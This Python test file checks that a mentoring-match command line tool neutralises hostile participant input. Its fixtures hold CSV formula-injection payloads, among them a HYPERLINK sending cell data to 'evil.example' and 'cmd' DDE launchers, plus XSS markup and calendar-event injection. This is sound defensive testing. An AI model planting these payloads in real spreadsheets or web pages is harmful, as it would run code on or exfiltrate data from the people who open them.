"""Hostile input through the real command line: nothing half-written, nothing injected,
nothing sensitive printed.

* every corpus file that `validate` rejects is rejected by `match` too, with exit status 2,
  no traceback and no run folder (not even a partial one) left behind;
* a 10 MB answer (made at run time, not committed) is matched without trouble;
* names, goals, bios, institutions and ids starting with ``=``, ``+``, ``-``, ``@``, a tab or
  a carriage return are neutralised in every cell of pairings.csv, introductions.csv and
  every sheet of pairings.xlsx (OWASP CSV injection), and HTML in participant text is
  escaped in every .html file (and in the Markdown plans);
* values planted in the sensitive fields (gender, background) and in the feedback notes
  never appear in any file of a match or rematch run folder, nor on the terminal.
"""

from __future__ import annotations

import csv
import html
import re
import tomllib
import zipfile
from pathlib import Path

import icalendar
import openpyxl
import pytest
from click.testing import CliRunner

from cli.main import cli
from cli.rematch import rematch_command
from matcher.outputs.cell_safety import FORMULA_STARTS
from sample_data import generate as sample_generate

ROOT = Path(__file__).resolve().parent.parent
CORPUS = Path(__file__).parent / "corpus"
CASES = tomllib.loads((CORPUS / "cases.toml").read_text(encoding="utf-8"))["case"]
DEFAULT_FILES = {"mentors": "good_mentors.csv", "mentees": "good_mentees.csv",
                 "config": "corpus.toml"}


def _run(command, arguments: list[str]):
    result = CliRunner().invoke(command, arguments)
    assert "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), \
        repr(result.exception)
    return result


def _leftovers(folder: Path) -> list[str]:
    """Entries a failed run could leave beside its target (the run-folder writer builds the folder
    as ``.<name>.<random>.partial`` and moves an old run aside as ``....old``)."""
    return sorted(p.name for p in folder.iterdir()
                  if p.name.startswith(".") and (".partial" in p.name or ".old" in p.name))


# --------------------------------------------------------------------------- corpus via match

REJECTED = [c for c in CASES if "args" not in c and c["exit"] == 2]
WRITING_CASES = [c for c in CASES if c.get("args", [""])[0] in {"match", "rematch"}]


@pytest.mark.parametrize("case", REJECTED, ids=[c["name"] for c in REJECTED])
def test_match_rejects_what_validate_rejects_and_writes_nothing(case, tmp_path, monkeypatch):
    monkeypatch.chdir(CORPUS)
    files = {key: case.get(key, default) for key, default in DEFAULT_FILES.items()}
    out = tmp_path / "run"
    result = _run(cli, ["match", files["mentors"], files["mentees"], "--config",
                        files["config"], "--out", str(out), "--quiet"])
    assert result.exit_code == 2, result.output
    bad = next(name for key, name in files.items() if name != DEFAULT_FILES[key])
    assert bad in result.output
    assert not out.exists()
    assert _leftovers(tmp_path) == []


@pytest.mark.parametrize("case", WRITING_CASES, ids=[c["name"] for c in WRITING_CASES])
def test_failing_match_and_rematch_cases_leave_no_folder(case, tmp_path, monkeypatch):
    monkeypatch.chdir(CORPUS)
    arguments = list(case["args"])
    out_at = arguments.index("--out") + 1
    target = Path(arguments[out_at])
    before = target.read_bytes() if target.is_file() else None
    if before is None:
        arguments[out_at] = str(tmp_path / "run")
    result = _run(cli, arguments)
    assert result.exit_code == case["exit"] == 2
    if before is None:
        assert not (tmp_path / "run").exists()
        assert _leftovers(tmp_path) == []
    else:
        assert target.read_bytes() == before
    assert _leftovers(CORPUS) == [] and not (CORPUS / "never_written").exists()


def test_every_feedback_corpus_file_is_used():
    """tests/test_corpus.py checks the top folder; the feedback sheets live one level down."""
    used = {arg for case in WRITING_CASES for arg in case["args"]}
    files = {p.relative_to(CORPUS).as_posix() for p in (CORPUS / "feedback").glob("*.csv")}
    assert len(files) >= 10 and files <= used, sorted(files - used)


# --------------------------------------------------------------------------- a 10 MB answer

def test_ten_megabyte_answer_is_matched(tmp_path):
    """Someone pastes a whole CV into the goals question: the run still completes."""
    mentors = (CORPUS / "good_mentors.csv").read_text(encoding="utf-8")
    goals = "Publish research, write grants and lead a team. " * (10 * 1024 * 1024 // 48 + 1)
    header, cara, dev = (CORPUS / "good_mentees.csv").read_text(encoding="utf-8").splitlines()
    cara = cara.replace("Publish my first paper", f'"{goals}"')
    (tmp_path / "mentors.csv").write_text(mentors, encoding="utf-8")
    (tmp_path / "mentees.csv").write_text("\n".join([header, cara, dev]) + "\n",
                                          encoding="utf-8")
    assert (tmp_path / "mentees.csv").stat().st_size > 10 * 1024 * 1024
    out = tmp_path / "run"
    result = _run(cli, ["match", str(tmp_path / "mentors.csv"), str(tmp_path / "mentees.csv"),
                        "--config", str(CORPUS / "corpus.toml"), "--out", str(out), "--quiet"])
    assert result.exit_code == 0, result.output
    assert "Placed 2 of 2 mentees" in result.output
    # Excel refuses cells above 32,767 characters; the workbook must still open in Excel.
    book = openpyxl.load_workbook(out / "pairings.xlsx", read_only=True)
    assert max(len(str(v)) for sheet in book.worksheets
               for row in sheet.iter_rows(values_only=True) for v in row if v) <= 32767


# --------------------------------------------------------------------------- injection

HOSTILE_CONFIG = """
[program]
name = "Hostile input program"
start_date = "2026-09-01"
id_field = "email"

[columns.mentors]
"Email" = "email"
"Name" = "name"
"Career stage" = "career_stage"
"Areas" = "expertise_areas"
"Bio" = "bio"
"Institution" = "institution"
"Specialty" = "specialty"
"How many mentees?" = "capacity"

[columns.mentees]
"Email" = "email"
"Name" = "name"
"Career stage" = "career_stage"
"Areas" = "need_areas"
"Goals" = "goals"
"Institution" = "institution"
"Specialty" = "specialty"

[vocabularies.areas]
research = ["Research/Scholarship"]
leadership = []

[vocabularies.career_stage]
resident = []
senior = []
"""
#: Formula starts (OWASP): the intake trims the leading tab / CR, leaving "=" behind.
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=2+2"]
#: Markup that would run in a browser; without quotes, so html.escape matches Jinja's escaping.
MARKUP = ["<script>alert(1)</script>", "<img src=x onerror=alert(2)>",
          "</p><svg onload=alert(3)>", "<iframe src=javascript:alert(4)></iframe>"]


def write_hostile_files(folder: Path, mentors: list[list[str]], mentees: list[list[str]]
                        ) -> dict[str, Path]:
    """Write the two sheets (rows, header first) and :data:`HOSTILE_CONFIG` into ``folder``."""
    paths = {"mentors": folder / "mentors.csv", "mentees": folder / "mentees.csv",
             "config": folder / "program.toml"}
    for rows, path in ((mentors, paths["mentors"]), (mentees, paths["mentees"])):
        with path.open("w", encoding="utf-8", newline="") as handle:
            csv.writer(handle).writerows(rows)
    paths["config"].write_text(HOSTILE_CONFIG, encoding="utf-8")
    return paths


def _write_hostile_cohort(folder: Path) -> dict[str, Path]:
    folder.mkdir()
    mentors = [["Email", "Name", "Career stage", "Areas", "Bio", "Institution", "Specialty",
                "How many mentees?"]]
    mentees = [["Email", "Name", "Career stage", "Areas", "Goals", "Institution", "Specialty"]]
    ids = ["+tag@example.org", "-dash@example.org", "=eq@example.org", "at.sign@example.org",
           "plain1@example.org", "plain2@example.org"]
    for k, formula in enumerate(FORMULAS):
        mentors.append([f"mentor{k}@example.org", formula, "Senior", "Research/Scholarship",
                        f"{MARKUP[k % 4]}\n{formula}", formula, MARKUP[(k + 1) % 4], "2"])
        mentees.append([ids[k], MARKUP[k % 4] if k < 4 else formula, "Resident",
                        "Research/Scholarship", f"{formula}\n{MARKUP[(k + 2) % 4]}\n"
                        "BEGIN:VEVENT\nSUMMARY:injected\nEND:VEVENT", formula, formula])
    return write_hostile_files(folder, mentors, mentees)


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory) -> Path:
    """One `match` run folder of a cohort whose every text field is hostile."""
    tmp = tmp_path_factory.mktemp("hostile")
    paths = _write_hostile_cohort(tmp / "in")
    out = tmp / "run"
    result = _run(cli, ["match", str(paths["mentors"]), str(paths["mentees"]), "--config",
                        str(paths["config"]), "--out", str(out), "--quiet"])
    assert result.exit_code == 0, result.output
    assert "Placed 6 of 6 mentees" in result.output
    return out


def _csv_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def test_no_cell_of_any_csv_or_sheet_can_start_a_formula(hostile_run):
    cells = _csv_cells(hostile_run / "pairings.csv") + \
        _csv_cells(hostile_run / "introductions.csv")
    book = openpyxl.load_workbook(hostile_run / "pairings.xlsx")
    assert book.sheetnames  # every sheet is scanned
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    cells.append(cell.value)
    assert cells
    dangerous = [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert dangerous == []
    # No formula element anywhere in the workbook's XML either.
    with zipfile.ZipFile(hostile_run / "pairings.xlsx") as archive:
        for name in archive.namelist():
            assert not re.search(rb"<(\w+:)?f[ >]", archive.read(name)), name
    # The hostile text is still shown, as text, behind the neutralising quote.
    for shown in ("'" + FORMULAS[0], "'+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0",
                  "'@SUM(1+9)*cmd|' /C calc'!A0", "'=1+1", "'=2+2", "'+tag@example.org",
                  "'-dash@example.org", "'=eq@example.org"):
        assert shown in cells, shown


def test_participant_markup_is_escaped_in_every_html_and_markdown_file(hostile_run):
    pages = sorted(hostile_run.rglob("*.html"))
    names = {p.relative_to(hostile_run).as_posix() for p in pages}
    assert {"report.html", "plans/all_plans.html"} <= names and len(names) > 2
    for page in [*pages, *hostile_run.rglob("*.md")]:
        text = page.read_text(encoding="utf-8")
        for markup in MARKUP:
            assert markup not in text, (page.name, markup)
        assert "<script>alert" not in text and "onerror=alert(2)>" not in text
    # The names are shown as text, not dropped.
    report = (hostile_run / "report.html").read_text(encoding="utf-8")
    assert html.escape(MARKUP[0]) in report
    plans = (hostile_run / "plans" / "all_plans.html").read_text(encoding="utf-8")
    assert html.escape(MARKUP[0]) in plans and html.escape(MARKUP[1]) in plans


def test_html_outputs_run_no_script_and_load_nothing_from_the_network(hostile_run):
    """Reports and plans open offline: no external resource to fetch, and no script but the
    report's own table sorter (inline, fixed text: no participant's text gets into it)."""
    external = re.compile(r"""(?:\b(?:src|href)\s*=\s*["']?\s*|url\(\s*["']?|@import\s+["']?)"""
                          r"(?:https?:)?//", re.IGNORECASE)
    for page in hostile_run.rglob("*.html"):
        text = page.read_text(encoding="utf-8")
        scripts = re.findall(r"<script\b([^>]*)>(.*?)</script", text, re.IGNORECASE | re.DOTALL)
        if page.name == "report.html":
            assert len(scripts) == 1 and text.lower().count("<script") == 1
            attributes, code = scripts[0]
            assert attributes == "" and "table.sortable" in code
            assert "alert" not in code and "@" not in code  # no participant text inside
        else:
            assert "<script" not in text.lower(), page.name
        assert not external.search(text), (page.name, external.search(text))


def test_goals_cannot_add_events_to_a_calendar(hostile_run):
    calendars = sorted((hostile_run / "calendar").glob("*.ics"))
    assert len(calendars) >= 6
    counts = set()
    for path in calendars:
        parsed = icalendar.Calendar.from_ical(path.read_bytes())
        events = [c for c in parsed.walk("VEVENT")]
        assert all("injected" != str(e.get("summary")) for e in events), path.name
        counts.add(len(events))
        assert path.read_bytes().count(b"\r\nBEGIN:VEVENT") == len(events)
    assert len(counts) == 1  # every pair gets the same meeting series, hostile or not


# --------------------------------------------------------------------------- privacy

SENSITIVE = "ZQXSENSITIVE"
NOTES = "ZQXNOTES"


def _all_text(folder: Path) -> str:
    """Every file of a run folder as text, workbooks unzipped."""
    parts = []
    for path in sorted(folder.rglob("*")):
        if path.is_file() and path.suffix == ".xlsx":
            with zipfile.ZipFile(path) as archive:
                parts += [archive.read(n).decode("utf-8", "replace")
                          for n in archive.namelist()]
        elif path.is_file():
            parts.append(path.read_bytes().decode("utf-8", "replace"))
    return "\n".join(parts)


def test_sensitive_fields_and_feedback_notes_never_reach_an_artefact(tmp_path):
    generate = sample_generate
    mentors, mentees = generate.generate(12, 6, 11)
    # Everyone gets a sensitive value; half the mentees opt in to using them, so the
    # scorer really reads them.
    for k in range(len(mentors)):
        mentors.at[k, generate.MENTOR_GENDER] = f"{SENSITIVE}G{k % 2}"
        mentors.at[k, generate.MENTOR_BACKGROUND] = f"{SENSITIVE}B{k % 3}"
    for k in range(len(mentees)):
        mentees.at[k, generate.MENTEE_GENDER] = f"{SENSITIVE}G{k % 2}"
        mentees.at[k, generate.MENTEE_BACKGROUND] = f"{SENSITIVE}B{k % 3}"
        if k % 2:
            mentees.at[k, generate.PREFERENCES] = (
                "Prefer a mentor of the same gender; Prefer a mentor who shares my background")
    inputs = generate.write_frames(tmp_path / "in", mentors, mentees)
    config = str(ROOT / "sample_data" / "program.toml")
    first = tmp_path / "run"
    result = _run(cli, ["match", str(inputs[0]), str(inputs[1]), "--config", config,
                        "--out", str(first), "--quiet"])
    assert result.exit_code == 0, result.output
    assert SENSITIVE.lower() not in (_all_text(first) + result.output).lower()

    # Month 12: every pair gets a note nobody outside the meeting may read.
    with (first / "pairings.csv").open(encoding="utf-8-sig", newline="") as handle:
        pairs = [(r["mentee_id"], r["mentor_id"]) for r in csv.DictReader(handle)]
    assert pairs
    feedback = tmp_path / "feedback.csv"
    with feedback.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["Mentee ID", "Mentor ID", "Continue?", "Notes", "New goals"])
        for k, (mentee, mentor) in enumerate(pairs):
            writer.writerow([mentee, mentor, ("yes", "no", "unsure")[k % 3],
                             f"{NOTES} private remark {k}: {SENSITIVE}G0",
                             "Lead a research team" if k % 2 else ""])
    second = tmp_path / "rematch"
    result = _run(rematch_command, [str(inputs[0]), str(inputs[1]), "--previous", str(first),
                                    "--feedback", str(feedback), "--config", config,
                                    "--out", str(second), "--quiet"])
    assert result.exit_code == 0, result.output
    assert (second / "run.json").is_file()
    text = (_all_text(second) + result.output).lower()
    assert NOTES.lower() not in text
    assert SENSITIVE.lower() not in text
